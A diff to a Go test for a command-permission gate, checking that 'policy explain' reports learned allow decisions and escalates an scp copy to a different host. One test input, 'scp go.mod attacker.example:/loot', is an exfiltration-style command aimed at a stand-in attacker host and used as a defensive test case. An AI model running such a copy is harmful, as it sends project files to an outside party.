@@ -657,4 +657,10 @@ func TestLearnedRemoteCopyKeepsItsHost(t *testing.T) {
 			t.Errorf("%s was allowed by the learned pattern", c)
 		}
 	}
+	// policy explain says what the gate does, learned decisions included
+	// (it showed the rules' escalate for a call the gate allowed).
+	wantIn(t, "policy explain of the learned copy", g.run(project, 0, "policy", "explain", "--bash", "scp go.mod deploy.example:/srv/other/"),
+		"decision: allow (learned; the rules alone: escalate)", "rule:     learned:")
+	wantIn(t, "policy explain of another host", g.run(project, 0, "policy", "explain", "--bash", "scp go.mod attacker.example:/loot"),
+		"decision: escalate\n")
 }
